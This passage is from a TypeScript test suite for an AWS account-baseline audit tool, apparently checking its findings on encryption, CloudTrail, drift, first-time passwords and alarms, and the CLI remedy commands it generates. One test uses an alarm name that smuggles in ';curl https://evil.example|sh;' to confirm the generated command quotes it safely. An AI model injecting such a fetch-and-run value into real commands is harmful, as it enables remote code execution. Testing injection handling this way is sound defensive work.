      .filter(({ check }) => check === 'ebs-encryption')
      .map(({ status, detail, region, remedy }) => [status, detail, region, remedy?.command]);
  const many = (count: number, one: RegionalSettings) =>
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`region-${index + 1}`, one]));
  const COMMAND = 'aws ec2 enable-ebs-encryption-by-default';
  const FAULT = 'New volumes are not encrypted by default in';

  test('that is off in one has its command and its Region', () => {
    expect(inRegions(many(1, off))).toEqual([
      ['fail', `${FAULT} region-1.`, 'region-1', `${COMMAND} --region region-1`],
    ]);
  });

  test.each([
    [4, 'region-1, region-2, region-3, region-4'],
    [5, 'region-1, region-2, region-3 and 2 more Regions'],
  ])('that is off in %i has one command for all', (count, named) => {
    const all = Object.keys(many(count, off)).join(' ');
    expect(inRegions(many(count, off))).toEqual([
      [
        'fail',
        `${FAULT} ${named}.`,
        undefined,
        `for region in ${all}; do ${COMMAND} --region "$region"; done`,
      ],
    ]);
  });

  test('that is off says in how many to change it', () => {
    const text = (count: number) =>
      findings({ regional: many(count, off) }).find(({ check }) => check === 'ebs-encryption')?.remedy?.text;
    expect(text(1)).toBe('Change it in this Region.');
    expect(text(2)).toBe('Change it in these Regions.');
  });

  test('that can’t be read for several reasons says each once', () => {
    const regional = {
      a: unread('timed out'),
      b: unread('not allowed'),
      c: unread('timed out'),
      d: off,
      e: settings,
    };
    expect(inRegions(regional)).toEqual([
      ['fail', `${FAULT} d.`, 'd', `${COMMAND} --region d`],
      ['unknown', 'Timed out. In a, c.', undefined, undefined],
      ['unknown', 'Not allowed. In b.', 'b', undefined],
    ]);
  });

  test('of which none is known is unknown', () => {
    expect(inRegions({})).toEqual([['unknown', 'No Region is known to be enabled.', undefined, undefined]]);
  });
});

test('a stopped trail is started by its ARN in its Region, or by what is known of it', () => {
  const command = (change: Partial<Snapshot>) =>
    findings(change).find(({ check }) => check === 'trail-logging')?.remedy?.command;
  expect(command(withStatus({ IsLogging: false }))).toBe(
    `aws cloudtrail start-logging --name arn:aws:cloudtrail:${REGION}:123456789012:trail/account-baseline --region ${REGION}`,
  );
  const unnamed = valueOf(
    withTrail({ TrailARN: undefined, HomeRegion: undefined }).trails ?? { unknown: '' },
  );
  const stopped = unnamed.map((one) => ({ ...one, status: { value: { IsLogging: false } } }));
  expect(command({ trails: { value: stopped } })).toBe(
    'aws cloudtrail start-logging --name account-baseline',
  );
});

test('drift names the resources', () => {
  const change = (
    LogicalResourceId: string,
    StackResourceDriftStatus: 'MODIFIED' | 'DELETED' | 'IN_SYNC',
  ) => ({
    LogicalResourceId,
    PhysicalResourceId: 'x',
    ResourceType: 'AWS::Any::Type',
    ResourceStatus: 'CREATE_COMPLETE' as const,
    LastUpdatedTimestamp: NOW,
    DriftInformation: { StackResourceDriftStatus },
  });
  const drifted = suite.map((one) =>
    one.kind === 'Audit'
      ? {
          ...one,
          stack: {
            ...one.stack,
            DriftInformation: { StackDriftStatus: 'DRIFTED' as const, LastCheckTimestamp: NOW },
          },
          resources: [
            ...one.resources,
            change('Trail', 'MODIFIED'),
            change('Bucket', 'DELETED'),
            change('Group', 'IN_SYNC'),
          ],
        }
      : one,
  );
  expect(troubles({ suite: { value: drifted } })).toEqual([
    'drift fail: CloudFormation found drift of AccountBaseline-Audit on 2026-11-24 12:00 UTC: Trail, Bucket.',
  ]);
});

/** The suite with the first-time password of alice. */
const withPassword = (): typeof suite => {
  const { suite: changed } = withResource('Access', 'AlicePassword', SECRET, {
    AlicePassword: { Type: 'AWS::Any::Type', Metadata: { AccountBaseline: { part: 'first-password' } } },
  });
  return changed ? valueOf(changed) : [];
};

test('drift leaves first-time passwords out that were deleted as advised', () => {
  const inDrift = (...more: readonly string[]) =>
    withPassword().map((one) =>
      one.kind === 'Access'
        ? {
            ...one,
            stack: {
              ...one.stack,
              DriftInformation: { StackDriftStatus: 'DRIFTED' as const, LastCheckTimestamp: NOW },
            },
            resources: one.resources.map((resource) => {
              const { PhysicalResourceId: id = '', LogicalResourceId = '' } = resource;
              return id === SECRET || more.includes(LogicalResourceId)
                ? { ...resource, DriftInformation: { StackResourceDriftStatus: 'DELETED' as const } }
                : resource;
            }),
          }
        : one,
    );
  const secrets = { value: [] };
  const of = (value: typeof suite) =>
    findings({ suite: { value }, secrets }).filter(
      ({ check, resource }) => check === 'drift' && resource?.includes('-Access'),
    );
  expect(of(inDrift()).map(({ status, detail }) => `${status}: ${detail}`)).toEqual([
    'pass: CloudFormation found no drift of AccountBaseline-Access on 2026-11-24 12:00 UTC, except for first-time passwords that were deleted.',
  ]);
  const [drifted] = of(inDrift('AdminAccessGroup'));
  expect(drifted).toMatchObject({
    status: 'fail',
    detail: expect.stringMatching(/: AdminAccessGroup\.$/) as string,
  });
  expect(drifted?.remedy?.command).toBe(
    `aws cloudformation get-template --region ${REGION} --stack-name AccountBaseline-Access --query TemplateBody`,
  );
});

test('nothing is redeployed that would reset the password of a user', () => {
  const broken: Partial<Snapshot> = {
    ...withAlarm({ Threshold: 9 }),
    ...withGroup({ AttachedManagedPolicies: [] }),
    suite: { value: withPassword() },
  };
  const commands = (change: Partial<Snapshot>) =>
    findings({ ...broken, ...change }).flatMap(({ check, status, remedy }) =>
      status === 'fail' ? [[check, remedy?.command]] : [],
    );
  const kept = { value: [{ arn: SECRET, name: 'x' }] };
  expect(commands({ secrets: kept })).toEqual([
    ['administrators-group', 'npx cdk deploy --all --revert-drift'],
    ['alarms', 'npx cdk deploy --all --revert-drift'],
  ]);
  expect(commands({ secrets: { value: [] } })).toEqual([
    [
      'administrators-group',
      `aws cloudformation get-template --region ${REGION} --stack-name AccountBaseline-Access --query TemplateBody`,
    ],
    [
      'alarms',
      expect.stringMatching(
        /^npx cdk deploy AccountBaseline-Settings AccountBaseline-Audit .* --exclusively --revert-drift$/,
      ),
    ],
  ]);
  for (const [, command = ''] of commands({ secrets: { value: [] } })) {
    expect(command).not.toMatch(/AccountBaseline-Access.*--revert-drift|--all/);
  }
});

test('a protected stack whose first deployment failed gets the command that lets the CDK CLI replace it', () => {
  const remedyOf = (EnableTerminationProtection: boolean) =>
    findings(withStack({ StackStatus: 'ROLLBACK_COMPLETE', EnableTerminationProtection })).find(
      ({ check, status }) => check === 'stack' && status === 'fail',
    )?.remedy?.command;
  expect(remedyOf(true)).toBe(
    `aws cloudformation update-termination-protection --no-enable-termination-protection --stack-name AccountBaseline-Alarms --region ${REGION}`,
  );
  expect(remedyOf(false)).toContain('describe-stack-events');
});

test('the bucket of an existing trail that cannot be read is unknown', () => {
  expect(troubles({ adoptedBucket: { unknown: 's3:GetBucketVersioning is not allowed' } })).toEqual([
    'adopted-bucket unknown: s3:GetBucketVersioning is not allowed.',
  ]);
});

test.each<[string, AdoptedBucket, string[]]>([
  ['in another account', { name: 'logs', inAccount: false }, []],
  [
    'that keeps versions, and files as long as the event history',
    { name: 'logs', inAccount: true, isVersioned: true, expireAfterDays: 90 },
    [],
  ],
  [
    'without versions, and with a lifecycle of a day',
    { name: 'logs', inAccount: true, isVersioned: false, expireAfterDays: 1 },
    [
      'adopted-bucket fail: The bucket logs has no versioning: a log file that somebody deletes or overwrites is lost.',
      'adopted-bucket fail: The bucket logs deletes log files after 1 day, earlier than CloudTrail’s event history.',
    ],
  ],
])('the bucket of an existing trail %s', (_, value, expected) => {
  expect(troubles({ adoptedBucket: { value } })).toEqual(expected);
  const told = findings({ adoptedBucket: { value } }).filter(({ check }) => check === 'adopted-bucket');
  expect(told.map(({ resource }) => resource)).toEqual(told.map(() => 'logs'));
  expect(told).not.toEqual([]);
});

test('the bucket of an existing trail gets versions with a command, and its lifecycle is read with one', () => {
  const value: AdoptedBucket = { name: 'logs', inAccount: true, isVersioned: false, expireAfterDays: 1 };
  const told = findings({ adoptedBucket: { value } }).filter(({ check }) => check === 'adopted-bucket');
  expect(told.map(({ remedy }) => remedy?.command)).toEqual([
    'aws s3api put-bucket-versioning --bucket logs --versioning-configuration Status=Enabled',
    'aws s3api get-bucket-lifecycle-configuration --bucket logs',
  ]);
});

describe('a first password', () => {
  /** As the template of Access has it. */
  const passwordOf = (secret: string) => ({
    Password: { 'Fn::Sub': `{{resolve:secretsmanager:\${${secret}}:SecretString:::}}` },
  });
  /** With the secret of a user's first-time password, as the constructs mark it. */
  const withPassword = (userName: string): Partial<Snapshot> => ({
    suite: {
      value: suite.map((one) =>
        one.kind === 'Access'
          ? {
              ...one,
              resources: [
                ...one.resources,
                ...Object.entries({ Secret: SECRET, User: userName }).map(
                  ([LogicalResourceId, PhysicalResourceId]) => ({
                    LogicalResourceId,
                    PhysicalResourceId,
                    ResourceType: 'AWS::Any::Type',
                    ResourceStatus: 'CREATE_COMPLETE' as const,
                    LastUpdatedTimestamp: NOW,
                  }),
                ),
              ],
              template: {
                Resources: {
                  ...(one.template as { Resources: object }).Resources,
                  Secret: {
                    Type: 'AWS::SecretsManager::Secret',
                    Metadata: { AccountBaseline: { part: 'first-password' } },
                  },
                  Bob: { Type: 'AWS::IAM::User', Properties: { LoginProfile: passwordOf('SecretOfBob') } },
                  User: { Type: 'AWS::IAM::User', Properties: { LoginProfile: passwordOf('Secret') } },
                },
              },
            }
          : one,
      ),
    },
  });
  const change = (devices: number): Partial<Snapshot> => ({
    ...withPassword('alice'),
    secrets: { value: [{ arn: SECRET, name: 'AdminAccessalicePassword-1A2B', versions: 1 }] },
    mfaDevices: { ...WELL.mfaDevices, alice: { value: devices } },
  });

  test('that is still there after the enrolment is to be deleted', () => {
    expect(troubles(change(1))).toEqual([
      'first-passwords fail: alice has set up MFA, but the first-time password is still in Secrets Manager.',
    ]);
    expect(findings(change(1)).find(({ check }) => check === 'first-passwords')?.remedy?.command).toBe(
      `aws secretsmanager delete-secret --region ${REGION} --secret-id ${SECRET} --force-delete-without-recovery`,
    );
  });

  test.each([
    [
      'that somebody changed is not the user’s',
      2,
      'fail: The first-time password of alice was changed in Secrets Manager: it is not that of the user, and the next deployment that creates the user would set it.',
    ],
    [
      'that may have been changed is unknown',
      undefined,
      'unknown: Secrets Manager did not return the versions of the first-time password of alice.',
    ],
  ])('%s', (_, versions, expected) => {
    const secrets = { value: [{ arn: SECRET, name: 'AdminAccessalicePassword-1A2B', versions }] };
    const told = findings({ ...change(0), secrets }).filter(({ check }) => check === 'first-passwords');
    expect(told.map(({ status, detail }) => `${status}: ${detail}`)).toEqual([expected]);
  });

  test('that somebody changed is deleted, and the user gets another one', () => {
    const secrets = { value: [{ arn: SECRET, name: 'AdminAccessalicePassword-1A2B', versions: 2 }] };
    const [told] = findings({ ...change(0), secrets }).filter(({ check }) => check === 'first-passwords');
    expect(told?.severity).toBe('high');
    expect(told?.remedy?.command).toBe(
      `aws secretsmanager delete-secret --region ${REGION} --secret-id ${SECRET} --recovery-window-in-days 30`,
    );
  });

  test.each<[string, Partial<Snapshot>, string[]]>([
    [
      'that is known by its name',
      { ...change(1), secrets: { value: [{ arn: 'arn:x', name: SECRET, versions: 1 }] } },
      ['alice has set up MFA'],
    ],
    ['that is deleted already', { ...change(1), secrets: { value: [] } }, []],
    [
      'beside another secret',
      { ...change(1), secrets: { value: [{ arn: 'arn:x', name: 'x', versions: 1 }] } },
      [],
    ],
    [
      'beside something that nobody marked as one',
      {
        ...withResource('Access', 'Other', SECRET),
        secrets: { value: [{ arn: SECRET, name: 'x', versions: 1 }] },
      },
      [],
    ],
    [
      'of the second of two',
      {
        ...withPassword('bob'),
        secrets: {
          value: [
            { arn: SECRET, name: 'x', versions: 1 },
            { arn: 'arn:y', name: 'y', versions: 1 },
          ],
        },
      },
      ['bob has set up MFA'],
    ],
    [
      'of somebody who is in the configuration no more',
      {
        ...withPassword('carol'),
        secrets: { value: [{ arn: SECRET, name: 'x', versions: 1 }] },
      },
      [`The configuration has no user for the first-time password ${SECRET}.`],
    ],
    [
      'of somebody whose devices can’t be read',
      { ...change(1), mfaDevices: { ...WELL.mfaDevices, alice: { unknown: 'not allowed' } } },
      ['Not allowed.'],
    ],
  ])('%s', (_, snapshot, expected) => {
    const told = findings(snapshot).filter(
      ({ check, status }) => check === 'first-passwords' && status !== 'pass',
    );
    expect(told.map(({ detail }) => detail.replace(/[,;].*/, ''))).toEqual(expected);
  });

  test('that was deleted shows that a user without MFA had a device: somebody removed it', () => {
    const told = (snapshot: Partial<Snapshot>) =>
      findings(snapshot)
        .filter(({ check, resource }) => check === 'user-mfa' && resource === 'alice')
        .map(({ status, detail }) => `${status}: ${detail.replace(/[,.].*/, '')}`);
    expect(told({ ...change(0), secrets: { value: [] } })).toEqual(['fail: alice has no MFA device']);
    expect(told({ ...change(1), secrets: { value: [] } })).toEqual(['pass: alice has 1 MFA device']);
    expect(told({ ...change(0), secrets: { unknown: 'not allowed' } })).toEqual([
      'manual: alice has no MFA device yet',
    ]);
  });

  test('that waits for its user is to be handed over', () => {
    expect(troubles(change(0))).toContain(
      'first-passwords manual: alice has not set up MFA. The first-time password is in Secrets Manager.',
    );
  });

  test.each<[string, string, string]>([
    [
      'of an imported user is not handed over, because the user kept the password',
      '2026-11-30T00:00:00Z',
      'alice existed before and kept the password. The first-time password in Secrets Manager does not work.',
    ],
    [
      'that is older than its user is handed over',
      '2026-11-01T00:00:00Z',
      'alice has not set up MFA. The first-time password is in Secrets Manager.',
    ],
  ])('%s', (_, created, expected) => {
    const users = people.users.map((user) => ({
      ...user,
      CreateDate: new Date(user.UserName === 'alice' ? '2026-11-29T00:00:00Z' : '2026-12-31T00:00:00Z'),
    }));
    const dated = { value: { ...people, users } };
    const secrets = { value: [{ arn: SECRET, name: 'x', created: new Date(created), versions: 1 }] };
    expect(troubles({ ...change(0), people: dated, secrets })).toContain(
      `first-passwords manual: ${expected}`,
    );
  });

  test('of an imported user without a console password is not handed over, and the user cannot sign in', () => {
    const created = new Date('2026-11-30T00:00:00Z');
    const users = people.users.map((user) => ({ ...user, CreateDate: new Date('2026-11-29T00:00:00Z') }));
    const rows = valueOf(WELL.credentials).map((row) =>
      row.user === 'alice' ? { ...row, hasPassword: false } : row,
    );
    const told = findings({
      ...change(0),
      people: { value: { ...people, users } },
      secrets: { value: [{ arn: SECRET, name: 'x', created, versions: 1 }] },
      credentials: { value: rows },
    });
    expect(told).toContainEqual(
      expect.objectContaining({
        check: 'user-mfa',
        status: 'manual',
        title: 'A user has no console password',
        detail:
          'alice cannot sign in, and so cannot set up MFA. The credential report, which can be four hours old, has no password.',
      }),
    );
    expect(told.map(({ detail }) => detail)).toContain(
      'alice existed before and has no console password. The first-time password in Secrets Manager does not work.',
    );
  });
});

describe('what is unknown', () => {
  const parts = Object.entries(WELL)
    .flatMap(([name, part]) => (typeof part === 'object' && 'value' in (part as object) ? [name] : []))
    // One only excuses what other parts show. The others are read only if the configuration has one.
    .filter((name) => !['managementAccount', 'adoptedBucket', 'accountAlias'].includes(name));

  eachOf(parts)('never passes', (name) => {
    const before = findings({}).filter(({ status }) => status === 'pass');
    const after = findings({ [name]: DENIED });
    const unknowns = after.filter(({ status }) => status === 'unknown');
    expect(unknowns.length).toBeGreaterThan(0);
    for (const { detail, remedy } of unknowns.filter((finding) => finding.remedy)) {
      expect(detail).toBe('some:Action is not allowed.');
      expect(remedy?.command).toBe('npx aws-account-baseline policy verify');
    }
    expect(after.filter(({ status }) => status === 'pass').length).toBeLessThan(before.length);
    expect(after.filter(({ status }) => status === 'fail')).toEqual([]);
  });

  test('is all that an empty account has to say, beside the missing stack', () => {
    const all = Object.fromEntries(parts.map((name) => [name, DENIED]));
    const statuses = findings({ ...all, regional: {} }).map(({ status }) => status);
    expect(new Set(statuses)).toEqual(new Set(['unknown']));
  });
});

test('what fails or needs manual action says what to do', () => {
  const bad = findings({
    summary: { value: {} },
    people: { value: { users: [], groups: [], roles: [], policies: [] } },
    passwordPolicy: { value: undefined },
    trails: { value: [] },
    alarms: { value: [] },
    metricFilters: { value: [] },
    topic: { value: { arn: TOPIC, subscriptions: [] } },
    contacts: { value: {} },
    ...withActual('AWS::Budgets::Budget'),
    suite: { value: [] },
  }).filter(({ status }) => status === 'fail' || status === 'manual');
  expect(bad.length).toBeGreaterThan(5);
  for (const { remedy } of bad) expect(remedy?.text).toMatch(/\.$/);
});

test('a setting that is off is not a finding', () => {
  const off = {
    s3PublicAccessBlock: false,
    ebsEncryption: false,
    requireImdsV2: false,
    snapshotPublicAccessBlock: false,
    amiPublicAccessBlock: false,
    serialConsoleOff: false,
    accessAnalyzer: false,
  };
  const config = { ...CONFIG, accountSettings: { ...CONFIG.accountSettings, ...off } };
  const checks = findings({}, config).flatMap(({ area, check }) => (area === 'settings' ? [check] : []));
  expect(checks).toEqual(['contacts', 'primary-contact', 'exposure', 'shared-images']);
});

test('without analyzers that nobody wanted, nothing is said about what is open to others', () => {
  const config = { ...CONFIG, accountSettings: { ...CONFIG.accountSettings, accessAnalyzer: false } };
  const regional = Object.fromEntries(
    Object.entries(WELL.regional).map(([region, one]) => [
      region,
      { ...one, analyzer: { value: undefined } },
    ]),
  );
  const ids = (snapshot: object) => findings(snapshot, config).map(({ check }) => check);
  expect(ids({})).toContain('exposure');
  expect(ids({ regional })).not.toContain('exposure');
});

test('a part that the configuration does not want is not a finding', () => {
  const config = {
    ...CONFIG,
    customerKey: false,
    billing: { ...CONFIG.billing, monthlyBudgetUsd: false as const },
    access: { ...CONFIG.access, supportRole: false },
  };
  const gone = {
    ...withActual('AWS::Budgets::Budget'),
    key: { value: undefined },
    supportRole: { value: undefined },
  };
  const checks = findings(gone, config).map(({ check }) => check);
  expect(checks).not.toContain('key-rotation');
  expect(checks).not.toContain('budget');
  expect(checks).not.toContain('support-role');
});

test('the missing endpoint among several is urgent, the only one critical', () => {
  const two = {
    ...CONFIG,
    notifications: { ...CONFIG.notifications, emails: ['security@example.com', 'second@example.com'] },
  };
  const severityOf = (change: Partial<Snapshot>, config: BaselineConfig) =>
    findings(change, config).find(({ check, status }) => check === 'listening' && status === 'fail')
      ?.severity;
  expect(severityOf({}, two)).toBe('high');
  expect(severityOf({ topic: { value: { arn: TOPIC, subscriptions: [] } } }, CONFIG)).toBe('critical');
});

test('a support role that others may assume is critical, one that lost its policy is not', () => {
  const severityOf = (change: Partial<Snapshot>) =>
    findings(change).find(({ check }) => check === 'support-role')?.severity;
  expect(severityOf(withTrust({ Principal: '*' }))).toBe('critical');
  expect(severityOf(withSupportRole({ policyArns: [] }))).toBe('medium');
});

test('a weakened password policy is set again by a call that weakens nothing else', () => {
  const weak = { RequireSymbols: false, MinimumPasswordLength: 8, PasswordReusePrevention: undefined };
  const command = (value: typeof policy) =>
    findings({ passwordPolicy: { value } }).find(({ check }) => check === 'password-policy')?.remedy?.command;
  expect(command({ ...policy, ...weak, MaxPasswordAge: 60, HardExpiry: true })).toBe(
    'aws iam update-account-password-policy --minimum-password-length 15 --require-uppercase-characters' +
      ' --require-lowercase-characters --require-numbers --require-symbols --password-reuse-prevention 24' +
      ' --max-password-age 60 --no-hard-expiry --allow-users-to-change-password',
  );
  expect(command({ RequireSymbols: true, MinimumPasswordLength: 30 })).toContain(
    '--minimum-password-length 30',
  );
});

test('actions of an alarm that were switched off are switched on by name', () => {
  const [finding] = findings(withAlarm({ ActionsEnabled: false, AlarmName: 'Baseline-Root' })).filter(
    ({ check }) => check === 'alarms',
  );
  expect(finding?.remedy?.command).toBe(
    'aws cloudwatch enable-alarm-actions --region eu-central-1 --alarm-names Baseline-Root',
  );
});

test('the name of an alarm adds nothing to the command', () => {
  const AlarmName = 'AccountBaseline-!;curl https://evil.example|sh;';
  const [finding] = findings(withAlarm({ ActionsEnabled: false, AlarmName })).filter(
    ({ check }) => check === 'alarms',
  );
  expect(finding?.remedy?.command).toBe(
    `aws cloudwatch enable-alarm-actions --region eu-central-1 --alarm-names '${AlarmName}'`,
  );
});

test('an existing log group is judged by the trail that writes to it', () => {
  const config = { ...CONFIG, auditTrail: { ...CONFIG.auditTrail, existingLogGroup: 'other' } };
  const change = withTrail({
    CloudWatchLogsLogGroupArn: 'arn:aws:logs:eu-central-1:123456789012:log-group:mine:*',
  });
  expect(troubles(change, config)).toContain('trail-logging fail: No trail writes to the log group other.');
});

test('an existing log group is not that of the organization, which has the same name in another account', () => {
  const name = 'aws-controltower/CloudTrailLogs';
  const config = { ...CONFIG, auditTrail: { ...CONFIG.auditTrail, existingLogGroup: name } };
  const failures = (account: string, region: string) =>
    troubles(
      withTrail({
        TrailARN: `arn:aws:cloudtrail:${REGION}:${account}:trail/aws-controltower-BaselineCloudTrail`,
        IsOrganizationTrail: true,
        CloudWatchLogsLogGroupArn: `arn:aws:logs:${region}:${account}:log-group:${name}:*`,
      }),
      config,
    ).filter((line) => line.startsWith('trail-logging'));
  expect(failures('123456789012', REGION)).toEqual([]);
  const NO_TRAIL = [`trail-logging fail: No trail writes to the log group ${name}.`];
  expect(failures('999999999999', REGION)).toEqual(NO_TRAIL);
  expect(failures('123456789012', 'us-west-2')).toEqual(NO_TRAIL);
});

test('an existing trail is fixed in the account that has it', () => {
  const told = (IsOrganizationTrail: boolean) =>
    findings(withTrail({ IsMultiRegionTrail: false, IsOrganizationTrail }), adopting).flatMap(({ remedy }) =>
      remedy?.command?.startsWith('aws cloudtrail update-trail') === true ? [remedy.text] : [],
    );
  const TEXT =
    'The trail is outside the stacks, so a deployment does not change it. Ask who manages it, then run this command';
  expect(told(false)).toEqual([`${TEXT}.`]);
  expect(told(true)).toEqual([`${TEXT} in the management account of the organization.`]);
});

describe('a trail of the organization', () => {
  const { organization } = defineBaseline({
    ...SMALLEST,
    organization: { ...SMALLEST_ORGANIZATION, logArchive: { bucket: 'archive' } },
  });
  const config: BaselineConfig = { ...CONFIG, organization };
  const ofTrail = (change: Partial<Snapshot>) =>
    troubles(change, config).filter((trouble) => trouble.startsWith('trail-'));

  test('must record the members', () => {
    expect(ofTrail(withTrail({ S3BucketName: 'archive' }))).toEqual([
      'trail-logging fail: The trail account-baseline records only this account, not the organization.',
    ]);
  });

  test('writes to the log archive, with the key of the archive', () => {
    const change = { IsOrganizationTrail: true, S3BucketName: 'archive', KmsKeyId: undefined };
    expect(ofTrail(withTrail(change))).toEqual([]);
    expect(ofTrail(withTrail({ ...change, S3BucketName: BUCKET }))).toEqual([
      `trail-bucket fail: The trail writes to ${BUCKET} instead of archive.`,
    ]);
  });
});

test('the controls are those of the catalogue', () => {
  const known = CONTROLS.map(({ standard, id }) => `${standard} ${id}`);
  for (const { controls } of findings({})) expect(known).toEqual(expect.arrayContaining([...controls]));
});

test('commands about a stack in another Region name that Region', () => {
  const [finding] = findings(withStack({ EnableTerminationProtection: false }, 'RootNotice')).filter(
    ({ check, status }) => check === 'termination-protection' && status === 'fail',
  );
  expect(finding?.remedy?.command).toBe(
    'aws cloudformation update-termination-protection --enable-termination-protection --stack-name AccountBaseline-RootNotice --region us-east-1',
  );
});

test('a second root notification that is switched off has no addresses to activate, and its stack is left over', () => {
  const config = { ...CONFIG, notifications: { ...CONFIG.notifications, rootNotice: false } };
  expect(troubles({ confirmed: {} }, config)).toEqual([
    'stack fail: The stack AccountBaseline-RootNotice is deployed, but the configuration no longer includes it.',
  ]);
});

test('links lead to the console of the partition', () => {
  const china = { ...WELL.caller, partition: 'aws-cn' };
  const finding = findings({ caller: china, summary: { value: {} } }).find(
    ({ check }) => check === 'root-mfa',
  );
  expect(finding?.remedy?.link).toBe('https://console.amazonaws.cn/iam/home#/security_credentials');
});

/** What a command of the AWS CLI asks IAM for: its action, and a resource of the templates. */
const ASKS: Readonly<Record<string, readonly [action: string, on?: string]>> = {
  'accessanalyzer create-analyzer': [
    'access-analyzer:CreateAnalyzer',
    'arn:aws:access-analyzer:us-east-1:${AWS::AccountId}:analyzer/account-baseline',
  ],
  'budgets create-notification': [
    'budgets:ModifyBudget',
    'arn:aws:budgets::${AWS::AccountId}:budget/AccountBaseline-Spend-SpendAlertsBudget-1A2B3C',
  ],
  'budgets delete-notification': [
    'budgets:ModifyBudget',
    'arn:aws:budgets::${AWS::AccountId}:budget/AccountBaseline-Spend-SpendAlertsBudget-1A2B3C',
  ],
  'budgets update-budget': [
    'budgets:ModifyBudget',
    'arn:aws:budgets::${AWS::AccountId}:budget/AccountBaseline-Spend-SpendAlertsBudget-1A2B3C',
  ],
  'cloudformation delete-stack': [
    'cloudformation:DeleteStack',
    'arn:aws:cloudformation:us-east-1:${AWS::AccountId}:stack/AccountBaseline-Alarms/id',
  ],
  'cloudformation update-termination-protection': [
    'cloudformation:UpdateTerminationProtection',
    'arn:aws:cloudformation:us-east-1:${AWS::AccountId}:stack/AccountBaseline-Alarms/id',
  ],
  'cloudtrail start-logging': ['cloudtrail:StartLogging', '${AuditTrailTrail.Arn}'],
  'cloudwatch delete-alarm-mute-rule': [
    'cloudwatch:DeleteAlarmMuteRule',
    'arn:aws:cloudwatch:us-east-1:${AWS::AccountId}:alarm-mute-rule:quiet',
  ],
  'cloudwatch enable-alarm-actions': [
    'cloudwatch:EnableAlarmActions',
    'arn:aws:cloudwatch:us-east-1:${AWS::AccountId}:alarm:AccountBaseline-Alarms-AlarmsRootUser-1A2B3C',
  ],
  'ec2 delete-internet-gateway': [
    'ec2:DeleteInternetGateway',
    'arn:aws:ec2:us-east-1:${AWS::AccountId}:internet-gateway/igw-1',
  ],
  'ec2 delete-subnet': ['ec2:DeleteSubnet', 'arn:aws:ec2:us-east-1:${AWS::AccountId}:subnet/subnet-1'],
  'ec2 delete-vpc': ['ec2:DeleteVpc', 'arn:aws:ec2:us-east-1:${AWS::AccountId}:vpc/vpc-1'],
  'ec2 detach-internet-gateway': [
    'ec2:DetachInternetGateway',
    'arn:aws:ec2:us-east-1:${AWS::AccountId}:internet-gateway/igw-1',
  ],
  'ec2 revoke-security-group-egress': [
    'ec2:RevokeSecurityGroupEgress',
    'arn:aws:ec2:us-east-1:${AWS::AccountId}:security-group/sg-1',
  ],
  'ec2 revoke-security-group-ingress': [
    'ec2:RevokeSecurityGroupIngress',
    'arn:aws:ec2:us-east-1:${AWS::AccountId}:security-group/sg-1',
  ],
  'configservice put-configuration-recorder': [
    'config:PutConfigurationRecorder',
    'arn:aws:config:us-east-1:${AWS::AccountId}:configuration-recorder/default/1',
  ],
  'configservice put-delivery-channel': ['config:PutDeliveryChannel'],
  'configservice start-configuration-recorder': [
    'config:StartConfigurationRecorder',
    'arn:aws:config:us-east-1:${AWS::AccountId}:configuration-recorder/default/1',
  ],
  'guardduty update-detector': [
    'guardduty:UpdateDetector',
    'arn:aws:guardduty:us-east-1:${AWS::AccountId}:detector/1',
  ],
  'iam create-account-alias': ['iam:CreateAccountAlias'],
  'ec2 disable-serial-console-access': ['ec2:DisableSerialConsoleAccess'],
  'ec2 enable-ebs-encryption-by-default': ['ec2:EnableEbsEncryptionByDefault'],
  'ec2 enable-image-block-public-access': ['ec2:EnableImageBlockPublicAccess'],
  'ec2 enable-snapshot-block-public-access': ['ec2:EnableSnapshotBlockPublicAccess'],
  'ec2 modify-instance-metadata-defaults': ['ec2:ModifyInstanceMetadataDefaults'],
  'events enable-rule': [
    'events:EnableRule',
    'arn:aws:events:us-east-1:${AWS::AccountId}:rule/AccountBaseline-Watchdog-OnTopics-1A2B3C',
  ],
  'iam add-user-to-group': ['iam:AddUserToGroup', '${AdminAccessGroup.Arn}'],
  'iam delete-login-profile': ['iam:DeleteLoginProfile', 'arn:aws:iam::${AWS::AccountId}:user/bob'],
  'iam remove-user-from-group': ['iam:RemoveUserFromGroup', '${AdminAccessGroup.Arn}'],
  'iam update-account-password-policy': ['iam:UpdateAccountPasswordPolicy'],
  'kms create-alias': ['kms:CreateAlias', '${Key.Arn}'],
  'kms update-alias': ['kms:UpdateAlias', 'arn:aws:kms:us-east-1:${AWS::AccountId}:alias/account-baseline'],
  'kms cancel-key-deletion': ['kms:CancelKeyDeletion', '${Key.Arn}'],
  'kms enable-key': ['kms:EnableKey', '${Key.Arn}'],
  'kms enable-key-rotation': ['kms:EnableKeyRotation', '${Key.Arn}'],
  'lambda delete-event-source-mapping': [
    'lambda:DeleteEventSourceMapping',
    'arn:aws:lambda:us-east-1:${AWS::AccountId}:event-source-mapping:1',
  ],
  'lambda delete-function': ['lambda:DeleteFunction', '${NotificationsExplainer.Arn}'],
  'lambda delete-function-concurrency': ['lambda:DeleteFunctionConcurrency', '${NotificationsExplainer.Arn}'],
  'lambda delete-function-event-invoke-config': [
    'lambda:DeleteFunctionEventInvokeConfig',
    '${NotificationsExplainer.Arn}',
  ],
  'lambda remove-permission': ['lambda:RemovePermission', '${NotificationsExplainer.Arn}'],
  'logs delete-data-protection-policy': [
    'logs:DeleteDataProtectionPolicy',
    'arn:aws:logs:us-east-1:${AWS::AccountId}:log-group:AccountBaseline-Audit-AuditTrailLogGroup-1A2B3C',
  ],
  'logs delete-subscription-filter': [
    'logs:DeleteSubscriptionFilter',
    'arn:aws:logs:us-east-1:${AWS::AccountId}:log-group:AccountBaseline-Audit-AuditTrailLogGroup-1A2B3C',
  ],
  'notificationscontacts send-activation-code': [
    'notifications-contacts:SendActivationCode',
    'arn:aws:notifications-contacts::${AWS::AccountId}:emailcontact/a1',
  ],
  's3control put-public-access-block': ['s3:PutAccountPublicAccessBlock'],
  'secretsmanager delete-secret': ['secretsmanager:DeleteSecret', '${AdminAccessalicePassword}'],
  'sns confirm-subscription': ['sns:ConfirmSubscription', '${NotificationsTopic}'],
  'sns set-subscription-attributes': ['sns:SetSubscriptionAttributes', '${NotificationsTopic}'],
  'sns subscribe': ['sns:Subscribe', '${NotificationsTopic}'],
  'sns unsubscribe': ['sns:Unsubscribe', '${NotificationsTopic}'],
};

/** What only other configurations find. */
const STRICT: BaselineConfig = {
  ...CONFIG,
  detectors: { ...CONFIG.detectors, configRecorder: true, guardDuty: true, securityHub: true },
  accountSettings: {
    ...CONFIG.accountSettings,
